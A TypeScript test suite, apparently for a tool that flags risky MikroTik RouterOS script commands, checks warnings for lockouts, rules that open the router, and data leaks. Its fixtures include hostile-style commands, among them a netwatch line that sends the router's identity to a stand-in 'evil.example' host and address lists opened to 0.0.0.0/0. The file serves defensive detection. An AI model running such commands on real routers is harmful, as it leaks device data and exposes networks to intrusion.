import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { judgeScript } from "./judge.ts";

describe("warnings", () => {
  it("warns before a change that can cut its owner off", () => {
    for (const text of [
      "/ip firewall filter add chain=input action=drop",
      "/ip firewall filter remove 0",
      "/ip address remove 0",
      "/ip address set 0 interface=ether2",
      "/interface disable ether1",
      "/interface ethernet set ether1 disabled=yes",
      "/interface bridge port remove 0",
      "/ip route remove 0",
      "/ip dhcp-client release 0",
      "/ipv6 firewall raw add chain=prerouting action=drop",
    ]) {
      assert.match(judgeScript(text).commands[0]?.warning ?? "", /cut|lose|off/, text);
    }
  });

  it("warns before a rule that lets anybody in", () => {
    const open = judgeScript("/ip firewall filter add chain=input action=accept");
    assert.match(open.commands[0]?.warning ?? "", /anybody/);
    const bounded = judgeScript(
      "/ip firewall filter add chain=input action=accept in-interface-list=LAN",
    );
    assert.equal(bounded.commands[0]?.warning, undefined);
  });

  it("warns before a change that opens the router or its network, and says so", () => {
    for (const text of [
      "/interface list member add list=LAN interface=ether1",
      "/ip firewall address-list add list=admins address=203.0.113.1",
      "/ip firewall address-list add list=admins address=0.0.0.0/0",
      "/ipv6 firewall address-list add list=admins address=::/0",
      "/ip firewall nat add chain=srcnat action=accept",
      "/ip firewall nat add chain=dstnat action=dst-nat to-addresses=192.168.88.5",
      "/ip firewall nat set 0 action=dst-nat to-addresses=192.168.88.5",
      "/ip cloud set back-to-home-vpn=enabled",
      "/ip upnp set enabled=yes",
      "/ip nat-pmp set enabled=yes",
      "/tool romon set enabled=yes",
      "/tool romon set enabled=$x",
      "/ppp secret add name=x password=y",
      "/interface wireguard peers add interface=wg0 allowed-address=0.0.0.0/0",
      "/ip dns set servers=203.0.113.1",
      "/ip traffic-flow target add dst-address=203.0.113.1",
      "/system logging action add name=x target=remote remote=203.0.113.1",
      "/tool mac-server set allowed-interface-list=all",
      "/interface l2tp-server server set enabled=yes",
    ]) {
      const warning = judgeScript(text).commands[0]?.warning ?? "";
      assert.ok(warning.length > 20, text);
      assert.doesNotMatch(warning, /you are cut off|a wrong value/, text);
    }
    const said = (text: string) => judgeScript(text).commands[0]?.warning ?? "";
    assert.match(said("/ip firewall address-list add list=a address=0.0.0.0/0"), /everybody/);
    assert.match(said("/tool mac-server set allowed-interface-list=all"), /can be reached/);
    assert.match(said("/tool mac-server set allowed-interface-list=LAN"), /way in/);
  });

  it("warns before a change that puts what the router holds where others see it", () => {
    for (const text of [
      "/ip dns static add name=a address=[/ip address get 0 address]",
      '/tool netwatch add host="$[/system identity get name].evil.example"',
      "/interface l2tp-client set 0 user=[/system identity get name]",
      ":local x [/system identity get name]; /interface l2tp-client set 0 connect-to=$x",
    ]) {
      const { kind, commands } = judgeScript(text);
      assert.equal(kind, "write", text);
      assert.ok(
        commands.some(({ warning }) => /carry it away/.test(warning ?? "")),
        text,
      );
    }
  });

  it("says no word of warning over harmless changes", () => {
    for (const text of [
      "/system identity set name=x",
      "/ip firewall filter add chain=forward action=drop",
    ]) {
      assert.equal(judgeScript(text).commands[0]?.warning, undefined, text);
    }
  });
});
